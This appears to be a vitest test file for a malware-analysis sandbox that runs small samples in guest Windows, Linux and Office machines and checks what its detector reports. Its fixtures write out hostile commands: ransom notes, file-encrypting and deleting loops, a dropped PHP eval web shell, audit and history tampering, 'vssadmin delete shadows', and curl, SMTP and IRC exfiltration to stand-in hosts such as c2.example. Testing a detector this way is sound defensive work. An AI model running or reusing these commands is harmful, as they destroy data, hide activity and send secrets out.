import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { afterAll, describe, expect, test } from 'vitest';
import { analyse, type ResultBody } from '../sandbox-runner/analyse.ts';
import { loadEngine } from '../sandbox-runner/engine.ts';
import { allEnvironments } from '../sandbox-runner/machines/guests.ts';
import type { ObservedEvent } from '../schema/jobs.ts';
import { score } from '../subgraphs/verdicts/scoring.ts';
import { guestMachines } from './guest-machines.ts';
import { availableGuests } from './guests.ts';
import { typeSamples } from './samples/types.ts';

const offered = await availableGuests(allEnvironments);
/** A test that needs the guests of these environments. */
const needing = (...environments: string[]) => test.skipIf(environments.some((name) => !offered.includes(name)));

const engine = await loadEngine();
const samples = await typeSamples();
const machines = guestMachines(offered);
afterAll(async () => await engine.close());

const analysed = async (name: string, bytes?: Buffer, environment: string | null = null, runMsMax = 25_000) => {
  let finished: Extract<ResultBody, { kind: 'finished' }> | undefined;
  await analyse(engine, machines(), { fileName: name, runMsMax, environment }, bytes ?? samples.find((one) => one.name === name)!.bytes, (result) => {
    if (result.kind === 'finished') finished = result;
    return Promise.resolve();
  });
  return finished!;
};

/** Command lines of all that was seen to run. */
const ranIn = async (name: string, script: string): Promise<(string | undefined)[]> => {
  const events: ObservedEvent[] = [];
  await analyse(engine, machines(), { fileName: name, runMsMax: 25_000, environment: null }, Buffer.from(script), (result) => {
    if (result.kind === 'events') events.push(...result.events);
    return Promise.resolve();
  });
  return events.filter(({ kind }) => kind === 'PROCESS' || kind === 'SHELL').map(({ fields }) => fields.CommandLine);
};

describe('the environments', () => {
  test.for([
    ['tiny64', 'linux'], ['tiny32', 'linux'], ['a.pl', 'linux'], ['a.php', 'linux'], ['server.js', 'linux'], ['tiny32.exe', 'windows-10'], ['old.exe', 'windows-xp'], ['library.dll', 'windows-10'], ['installer.msi', 'windows-10'],
    ['a.vbs', 'windows-10'], ['a.wsf', 'windows-10'], ['a.lnk', 'windows-10'], ['program.jar', 'java'], ['a.docx', 'office'], ['package.deb', 'linux'], ['example.rpm', 'linux'],
  ] as const)('%s runs in %s, to its end or to its time', async ([name, environment], { skip }) => {
    skip(!offered.includes(environment), `${environment} could not be made here`);
    const { detonations } = await analysed(name);
    expect(detonations[0]).toMatchObject({ environment, outcome: expect.stringMatching(/^(ENDED|TIMED_OUT)$/) as string });
  });
  needing('windows-7')('windows-7 says that it is Windows 7', async () => {
    const { members } = await analysed('ver.bat', Buffer.from('@ver > %TEMP%\\version.txt\r\n'), 'windows-7');
    expect(members.map((one) => one.fileName)).toContain('version.txt');
  });
  needing('windows-xp')('windows-xp is a 32-bit Windows, with somebody at its desk', async () => {
    const { members } = await analysed('arch.bat', Buffer.from('@echo %PROCESSOR_ARCHITECTURE%> %TEMP%\\arch.txt\r\n@ver > %TEMP%\\version.txt\r\n@if exist C:\\windows\\syswow64 echo two > %TEMP%\\wow.txt\r\n'), 'windows-xp');
    expect(members.find((one) => one.fileName === 'arch.txt')!.sha256).toBe(createHash('sha256').update('x86\r\n').digest('hex'));
    expect(members.map((one) => one.fileName).sort()).toEqual(['arch.txt', 'version.txt']);
    const dialog = await analysed('dialog32.exe', await readFile(new URL('samples/dialog32.exe', import.meta.url)), 'windows-xp', 90_000);
    expect(dialog.members).toMatchObject([{ fileName: 'answer.txt', sha256: createHash('sha256').update('yes, mouse moved\r\n').digest('hex') }]);
  });
  needing('office')('a macro that an OpenDocument text runs when it is opened is seen to run', async () => {
    // How fast this machine is must not decide: the macro runs when the office is ready for it.
    const { detonations, members, signals } = await analysed('a.odt', undefined, null, 90_000);
    expect(detonations[0]).toMatchObject({ environment: 'office', outcome: 'ENDED' });
    expect(members.map((one) => one.fileName)).toContain('from-macro');
    expect(signals.some((one) => one.run === 0)).toBe(true);
  });
  needing('windows-10')('somebody sits at the desk of Windows: questions are answered with yes, and the mouse moves', async () => {
    // It waits ten seconds by itself, besides the person's own pace: how fast this machine is must not decide.
    const { members, detonations } = await analysed('dialog.exe', await readFile(new URL('samples/dialog.exe', import.meta.url)), null, 90_000);
    expect(detonations[0]).toMatchObject({ outcome: 'ENDED' });
    expect(members).toMatchObject([{ fileName: 'answer.txt', sha256: createHash('sha256').update('yes, mouse moved\r\n').digest('hex') }]);
  });
  needing('linux', 'windows-10').each([
    ['note.sh', "#!/bin/sh\nprintf '\\033[31mYour files are %s.\\033[0m\\nPay 1 bitcoin to recover them.\\n' encrypted\n"],
    ['note.vbs', 'w = "en" & "crypted"\r\nMsgBox "Your files are " & w & "." & vbCrLf & "Pay 1 bitcoin to recover them."\r\n'],
  ])('a text that it shows is read, whether it is printed or in a window: %s', async (name, text) => {
    const { signals } = await analysed(name, Buffer.from(text), null, 90_000);
    expect(signals.find((one) => one.rule === 'assay-shown-ransom')).toMatchObject({
      run: 0, evidence: [expect.stringMatching(/showed "Your files are encrypted\.\\nPay 1 bitcoin/) as string],
    });
  });
  needing('linux', 'windows-10').each([
    ['lock.sh', '#!/bin/bash\nfor f in ~/Documents/*; do base64 "$f" > "$f.x7"; rm "$f"; done\n', 'assay-linux-many-documents'],
    ['lock.bat', 'cd /d C:\\users\\mkeller\\Documents\r\nfor %%f in (*.*) do ren "%%f" "%%f.x7"\r\n', 'assay-windows-many-documents'],
  ])('documents that change one after the other are seen together, whatever changes them: %s', async (name, text, rule) => {
    const { signals } = await analysed(name, Buffer.from(text));
    expect(signals.find((one) => one.rule === rule)).toMatchObject({ techniques: ['T1486', 'T1485'], run: 0 });
  });
  needing('linux')('what a sample writes is looked at like a member, and says from where', async () => {
    const { members, signals } = await analysed('drop.sh', Buffer.from('#!/bin/sh\nprintf \'<?php eval(base64_decode("aWQ7")); ?>\' > /tmp/left.php\necho done\n'));
    expect(members).toMatchObject([{ fileName: 'left.php', mediaType: 'application/x-php' }]);
    expect(signals.every((signal) => signal.weight <= 100)).toBe(true);
  });
  needing('linux')('commands of the shell are seen after expansion, builtins and missing programs too', async () => {
    const { signals } = await analysed('hide.sh', Buffer.from('#!/bin/bash\nh=HISTFILE\nunset $h\n$(echo c3lzdGVtY3RsIHN0b3AgYXVkaXRk | base64 -d)\n'));
    const evidence = signals.flatMap((signal) => signal.evidence).join('\n');
    expect(evidence).toContain('unset HISTFILE');
    expect(evidence).toContain('systemctl stop auditd');
  });
  needing('linux')('what a sample says over TLS, to a mail server and in a chat is heard', async () => {
    const script = '#!/bin/bash\ncurl -sS https://c2.example/steal -d secret=1\nprintf "EHLO x\\r\\nMAIL FROM:<a@b.example>\\r\\nRCPT TO:<d@e.example>\\r\\nDATA\\r\\nSubject: stolen\\r\\n\\r\\nbody\\r\\n.\\r\\nQUIT\\r\\n" | nc -w 3 mail.example 25\n(printf "NICK bot\\r\\nUSER bot 0 * :x\\r\\n"; sleep 1; printf "JOIN #c2\\r\\n"; sleep 1) | nc -w 4 irc.example 6667\n';
    const events: ObservedEvent[] = [];
    await analyse(engine, machines(), { fileName: 'talk.sh', runMsMax: 25_000, environment: null }, Buffer.from(script), (result) => {
      if (result.kind === 'events') events.push(...result.events);
      return Promise.resolve();
    });
    const told = events.filter((event) => event.kind === 'NETWORK').map((event) => event.fields);
    expect(told).toContainEqual(expect.objectContaining({ 'c-uri': 'https://c2.example/steal', 'cs-method': 'POST', Tls: 'true', FirstBytes: expect.stringContaining('secret=1') as string }));
    expect(told).toContainEqual(expect.objectContaining({ DestinationPort: '25', FirstBytes: expect.stringMatching(/RCPT TO:<d@e.example>[\s\S]*Subject: stolen[\s\S]*QUIT/) as string }));
    expect(told).toContainEqual(expect.objectContaining({ DestinationPort: '6667', FirstBytes: expect.stringContaining('JOIN #c2') as string }));
  });
  needing('linux')('names that nobody can have are not there, and one who goes on trying finds one', async () => {
    const script = '#!/bin/bash\nfor n in {1..6}; do getent hosts "x${n}83920174655.example" >/dev/null && touch "/tmp/.found-$n"; done\n' +
      'getent hosts updates.example >/dev/null && touch /tmp/.likely\n';
    const ran = (await ranIn('names.sh', script)).filter((line) => line?.startsWith('touch '));
    expect([...new Set(ran)]).toEqual(['touch /tmp/.found-5', 'touch /tmp/.found-6', 'touch /tmp/.likely']);
  });
  needing('linux')('a daemon that begins by two forks is waited for', async () => {
    const script = 'import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(2)\nos.system("touch /tmp/.late")\n';
    expect(await ranIn('twice.py', script)).toContain('touch /tmp/.late');
  });
  needing('linux', 'windows-10').each(['Счёт-фактура №5', '請求書 2026', 'a'.repeat(180)])('a sample runs under its own name: %s', async (name) => {
    expect(await ranIn(`${name}.sh`, `#!/bin/bash\n[ "$(basename "$0")" = '${name}.sh' ] && touch /tmp/.own\n`)).toContain('touch /tmp/.own');
    expect(await ranIn(`${name}.bat`, `@echo off\r\nvssadmin delete shadows /all /quiet\r\n`)).toContain('vssadmin delete shadows /all /quiet');
  });
  needing('linux')('root that would empty the record of its run is seen to, and empties nothing', async () => {
    const script = '#!/bin/bash\ntouch /tmp/.before\nsudo sh -c "echo > /sys/kernel/tracing/trace"\n';
    const result = await analysed('wipe.sh', Buffer.from(script));
    expect(result.detonations[0]!.limitations).toEqual([]);
    expect(result.signals.map((one) => one.rule)).toContain('assay-linux-watcher-channel');
    expect(score({ ...result, inert: false }).level).not.toBe('CLEAN');
  });
  needing('linux')('processes are told of while they run', async () => {
    const hints: string[] = [];
    await analyse(engine, machines(), { fileName: 'slow.sh', runMsMax: 25_000, environment: null }, Buffer.from('#!/bin/bash\nsleep 1.7\n'), () => Promise.resolve(), (hint) => hints.push(...(hint.processes ?? []).map((one) => one.commandLine)));
    expect(hints).toContain('sleep 1.7');
  });
  test.each(['linux', 'windows-10', 'windows-xp', 'office'].filter((name) => offered.includes(name)))('%s was checked for what gives it away, and says so', (environment) => {
    const { passed, total, seen } = machines().evasion(environment)!;
    expect(total).toBeGreaterThan(12);
    expect(passed + seen.length).toBe(total);
    for (const gone of ['dmi-strings', 'hypervisor-flag', 'documents', 'shell-history', 'our-files']) expect(seen.join('\n')).not.toContain(`${gone}:`);
  });
  needing('office')('a document with macros that did nothing is not called executed', async () => {
    const { detonations } = await analysed('a.docm');
    expect(detonations[0]).toMatchObject({ environment: 'office', outcome: 'NOT_EXECUTED', limitations: expect.arrayContaining(['MACROS_NOT_SEEN_TO_RUN']) as string[] });
  });
});
